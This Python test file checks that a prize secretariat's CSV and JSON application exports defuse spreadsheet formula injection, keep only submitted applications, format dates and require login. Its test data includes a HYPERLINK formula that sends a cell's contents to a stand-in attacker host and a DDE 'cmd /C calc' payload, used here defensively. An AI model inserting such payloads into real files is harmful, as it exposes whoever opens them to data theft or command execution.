"""CSV and JSON exports of an edition's applications: submitted ones only, safe in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime, timedelta

import pytest

from prize.domain.screening import exports
from prize.models import ApplicationStatus, EditionState
from tests import factories
from tests.staffkit import login, make_staff

A = ApplicationStatus


def _seed(db):
    with db.write() as session:
        edition = factories.edition(session=session, state=EditionState.screening)
        factories.application(
            session=session,
            edition=edition,
            title='=HYPERLINK("http://evil.example")',
            organisation="+Attitude",
            applicant_name="@admin",
            phone="-1+1",
            countries=["PT"],
            attachments=[("a.pdf", factories.PDF), ("b.pdf", factories.PDF)],
        )
        factories.application(
            session=session,
            edition=edition,
            status=A.ineligible,
            title="Friday Coffee",
            organisation="Jeunes, solidaires",
            countries=["IL", "FR"],
            screening_reason="country",
        )
        factories.application(session=session, edition=edition, status=A.draft, title="Draft")
        other = factories.edition(session=session, year=2029)
        factories.application(session=session, edition=other, title="Another edition")
    return edition


def test_rows_hold_the_submitted_applications_of_the_edition_only(db):
    edition = _seed(db)
    with db.read() as session:
        rows = exports.rows(session=session, edition=edition)
    assert [(r["reference"], r["title"], r["country"], r["attachments"]) for r in rows] == [
        ("EDPP-2027-0001", '=HYPERLINK("http://evil.example")', "Portugal", 2),
        ("EDPP-2027-0002", "Friday Coffee", "Israel", 0),
    ]
    assert rows[1]["countries"] == ["IL", "FR"]
    assert rows[1]["status"] == "ineligible"


def test_csv_defuses_formulas_and_keeps_commas_and_accents(db):
    edition = _seed(db)
    with db.read() as session:
        text = exports.to_csv(exports.rows(session=session, edition=edition))
    assert text.startswith("\ufeff")
    table = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    first, second = table
    assert first["title"] == '\'=HYPERLINK("http://evil.example")'
    assert first["organisation"] == "+Attitude"  # a real project's name, and no formula
    assert first["applicant_name"] == "'@admin"
    assert first["phone"] == "'-1+1"
    assert second["organisation"] == "Jeunes, solidaires"
    assert second["countries"] == "IL FR"
    assert first["applicant_name"] != "@admin"
    assert list(table[0]) == list(exports.COLUMNS)


def test_safe_cell_rules():
    assert [exports.safe_cell(v) for v in ("=1+1", "+1", "-1", "@x", "\tx", "ok", None, True)] == [
        "'=1+1",
        "+1",
        "-1",
        "'@x",
        "\tx",
        "ok",
        "",
        "yes",
    ]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("+A1", "'+A1"),
        ("-2+3", "'-2+3"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("+Attitude(1)", "'+Attitude(1)"),
        ("\t=1+1", "\t'=1+1"),
        ("Jeunes; =HYPERLINK(1)", "Jeunes; '=HYPERLINK(1)"),
        ('Note, "=A1"', 'Note, "\'=A1"'),
        ("line\n-2+3", "line\n'-2+3"),
        ("+Attitude", "+Attitude"),
        ("+Attitude university students", "+Attitude university students"),
        ("+33 3 88 41 20 00", "+33 3 88 41 20 00"),
        ("+33 (0)3 88 41 20 00", "+33 (0)3 88 41 20 00"),
        ("-0.25", "-0.25"),
        ("- first point\n- second point", "'- first point\n'- second point"),
        ("+Attitude,HYPERLINK(1)", "'+Attitude,HYPERLINK(1)"),
        ("Intercity; +Attitude", "Intercity; '+Attitude"),
        ("'=already text", "'=already text"),
        ("EDPP-2027-0001", "EDPP-2027-0001"),
    ],
)
def test_safe_cell_quotes_where_a_formula_could_start_and_nowhere_else(value, cell):
    assert exports.safe_cell(value) == cell


# Values that start with a sign and are no formula: a winning title of 2016, a phone number.
GENUINE = {"+Attitude", "+33 3 88 41 20 00", "-1"}
DANGEROUS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1)',
    "organisation": "+Attitude",
    "phone": "+33 3 88 41 20 00",
    "applicant_name": "@SUM(A1:A9)",
    "contact_person": "-2+3",
    "late_reason": "+cmd|' /C calc'!A0",
    "screening_note": 'Checked; =HYPERLINK("http://evil.example")\n+A1, -2+3\t@SUM(1)\r=1',
    "info_message": 'Send it, "=1+1"; -1',
}


def _starts_a_formula(field: str) -> bool:
    """Whether a spreadsheet could read ``field`` as a formula: after the spaces and double
    quotes it may strip, a formula character, and not one of the genuine values."""
    text = field.lstrip(' \t\r\n"')
    if not text or text[0] not in "=+-@":
        return False
    return text.rstrip(' \t\r\n"') not in GENUINE


def test_csv_dates_are_paris_time_year_first_and_json_keeps_utc(db):
    edition = _seed(db)
    with db.read() as session:
        rows = exports.rows(session=session, edition=edition)
        text = exports.to_csv(rows)
        document = json.loads(
            exports.to_json(edition=edition, data=rows, now=datetime(2027, 7, 5, tzinfo=UTC))
        )
    first = next(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    submitted = factories.DEADLINE - timedelta(days=3)  # 27 June, 20:00 UTC: 22:00 in Paris
    assert first["submitted_at"] == "2027-06-27 22:00"  # no seconds, no offset, no 27/6 or 6/27
    assert document["applications"][0]["submitted_at"] == submitted.isoformat()


def test_a_real_export_read_with_either_delimiter_has_no_cell_that_starts_a_formula(db):
    with db.write() as session:
        edition = factories.edition(session=session, state=EditionState.screening)
        factories.application(session=session, edition=edition, countries=["PT"], **DANGEROUS)
    with db.read() as session:
        text = exports.to_csv(exports.rows(session=session, edition=edition))
    body = text.lstrip("\ufeff")
    header, first = body.splitlines()[:2]  # every cell quoted, even a plain one
    assert header == ",".join(f'"{name}"' for name in exports.COLUMNS)
    assert first.startswith('"EDPP-2027-0001","submitted",')
    for delimiter in (",", ";"):
        fields = [
            f for row in csv.reader(io.StringIO(body, newline=""), delimiter=delimiter) for f in row
        ]
        assert [f for f in fields if _starts_a_formula(f)] == [], delimiter
    for line in body.splitlines():  # also split as lines and tabs, as a careless reader may
        for piece in re.split(r"[,;\t]", line):
            assert not _starts_a_formula(piece), piece
    [row] = list(csv.DictReader(io.StringIO(body, newline="")))
    assert (row["organisation"], row["phone"]) == ("+Attitude", "+33 3 88 41 20 00")
    assert row["title"] == "'" + DANGEROUS["title"]


def test_json_export_has_one_object_per_application(db):
    edition = _seed(db)
    now = datetime(2027, 7, 5, tzinfo=UTC)
    with db.read() as session:
        document = json.loads(
            exports.to_json(
                edition=edition, data=exports.rows(session=session, edition=edition), now=now
            )
        )
    assert document["edition"] == 2027
    assert document["count"] == 2
    assert document["applications"][1]["screening_reason"] == (
        "The project does not run mainly in an eligible country."
    )


def test_export_pages_download_csv_and_json(client, sqlite_db, clock):
    _seed(sqlite_db)
    make_staff(sqlite_db, clock(), email="adviser@example.org", role="adviser")
    login(client, email="adviser@example.org")  # advisers may read, and so export
    response = client.get("/secretariat/editions/2027/applications.csv")
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == (
        'attachment; filename="applications-2027.csv"'
    )
    assert "Friday Coffee" in response.text and "Draft" not in response.text
    data = client.get("/secretariat/editions/2027/applications.json").json()
    assert [a["reference"] for a in data["applications"]] == ["EDPP-2027-0001", "EDPP-2027-0002"]


def test_export_needs_a_signed_in_account(client, sqlite_db):
    _seed(sqlite_db)
    response = client.get("/secretariat/editions/2027/applications.csv")
    assert response.status_code == 303
    assert "Friday Coffee" not in response.text
    assert response.headers["location"] == (
        "/secretariat/login?next=/secretariat/editions/2027/applications.csv"
    )
